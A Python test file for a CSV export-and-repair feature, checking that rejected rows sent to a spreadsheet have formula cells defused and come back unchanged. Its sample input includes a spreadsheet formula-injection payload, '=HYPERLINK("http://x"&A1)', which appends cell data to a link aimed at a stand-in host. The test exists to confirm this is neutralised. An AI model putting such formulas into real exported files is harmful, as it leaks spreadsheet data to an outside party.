"""Rejected rows go to a spreadsheet and come back: no formula of an outsider runs there, and no value is changed."""

from __future__ import annotations

import csv

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gongbi.errors import InvalidInput
from gongbi.ownership.files import FORMULA, as_it_was, defused
from gongbi.sources import rejects

from .conftest import HEADER, Shop

EVIL = '=HYPERLINK("http://x"&A1)'
LINES = [f'1,1,2024-03-01 10:00:00,7,1,"{EVIL.replace(chr(34), chr(34) * 2)}",1,yes,@note', "2,1,x,7,1,-5,1,yes,'=mine"]

#: The number of the first load of a shop.
LOAD = 3


def export(shop: Shop) -> list[list[str]]:
    """Two rejected rows as a spreadsheet reads them."""
    shop.write("sales.csv", LINES, header=f"{HEADER},+remark")
    assert shop.one().load == LOAD
    assert rejects.export_rejects(shop.engine, LOAD, shop.root / "bad.csv")[0] == 2
    with (shop.root / "bad.csv").open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file))


def test_no_cell_of_rejected_rows_is_a_formula(shop: Shop) -> None:
    rows = export(shop)
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA)]
    assert f"'{EVIL}" in rows[1]
    assert rows[0][-1] == "'+remark"
    assert rejects.edited_rows(shop.engine, LOAD, shop.root / "bad.csv") is None


def test_what_was_not_edited_of_a_mended_row_is_as_it_was(shop: Shop) -> None:
    export(shop)
    file = shop.root / "bad.csv"
    file.write_text(file.read_text("utf-8-sig").replace(",x,", ",2024-03-02 09:00:00,"), "utf-8")
    body = rejects.edited_rows(shop.engine, LOAD, file)
    assert body is not None
    (row,) = csv.DictReader(body.decode().splitlines())
    assert (row["at"], row["amount"], row["+remark"]) == ("2024-03-02 09:00:00", "-5", "'=mine")
    kept = shop.root / "kept.csv"
    kept.write_bytes(body)
    assert shop.repaired("sales", kept).repaired == 1
    assert shop.rows("select amount from fact_sale where receipt = 2") == [(-5,)]


@given(st.text(alphabet="'=+-@\t\ra1", max_size=8))
def test_what_is_defused_comes_back(text: str) -> None:
    assert not defused(text).startswith(FORMULA)
    assert as_it_was(defused(text)) == text


@pytest.mark.parametrize("number", ["²", "９" * 5000, "1" * 30, "-1", "", "x"])
def test_a_row_with_a_number_that_is_none_is_refused_with_its_line(shop: Shop, number: str) -> None:
    rows = export(shop)
    rows[1][0] = number
    file = shop.root / "bad.csv"
    with file.open("w", encoding="utf-8", newline="") as out:
        csv.writer(out).writerows(rows)
    with pytest.raises(InvalidInput, match=r"bad\.csv, line 2: load .* is no rejected row of load"):
        rejects.edited_rows(shop.engine, LOAD, file)
